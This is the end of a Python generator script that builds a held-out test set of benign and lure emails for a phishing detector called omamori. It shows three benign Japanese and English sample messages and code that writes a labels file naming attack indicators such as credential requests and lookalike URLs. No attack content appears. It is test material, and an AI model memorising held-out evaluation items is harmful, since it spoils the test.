add('ok-misc', '-', 'association seminar with a calendar attachment', ('日本保険代理店協会', 'seminar@hoken-dairiten-kyokai.example'), 'セミナー参加登録完了',
    'お申し込みありがとうございました。当日の予定表を添付します。\n',
    atts=[('seminar.ics', 'text/calendar', b'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nDTSTART:20270120T050000Z\r\nSUMMARY:Compliance seminar\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n')])
add('ok-misc', '-', 'English mail from a Singapore partner of the forum', ('Forum Secretariat', 'secretariat@aif-conf.example'), 'Speaker slots',
    'Thank you for your interest. Speaker slots for the March forum will be announced on 15 January.\n')
add('ok-misc', '-', 'auto-reply out of office from a partner', ('仁藤 敏之', 'nito@hokuto-print.example'), '自動応答: 見積依頼',
    '12月7日から9日まで出張のため不在にしております。急ぎの件は info@hokuto-print.example までお願いします。\n')


def main():
    md = os.path.join(HERE, 'messages')
    os.makedirs(md, exist_ok=True)
    for f in os.listdir(md):
        os.remove(os.path.join(md, f))
    lines = ['# Third held-out inbound lure set of omamori (see README for the references).',
             '# Made by gen.py; do not edit by hand.  Not for tuning rules.',
             '# Labels name the indicators present, not a verdict (see gen.py).',
             '#',
             '# covers: attack.freemail_sender attack.signature_mismatch attack.url_mismatch '
             'attack.lookalike_url attack.non_japanese_kanji attack.credential_request attack.theme '
             'attack.spoofed_internal',
             '# config: omamori.conf',
             '#']
    for i, m in enumerate(M):
        with open(os.path.join(md, m['name']), 'w', encoding='utf-8', newline='\n') as f:
            f.write(render(i, m))
        lines.append('%s\t%s\t%s\t%s' % (m['name'], m['labels'], m['args'], m['note']))
    with open(os.path.join(HERE, 'labels.tsv'), 'w', encoding='utf-8') as f:
        f.write('\n'.join(lines) + '\n')


if __name__ == '__main__':
    main()
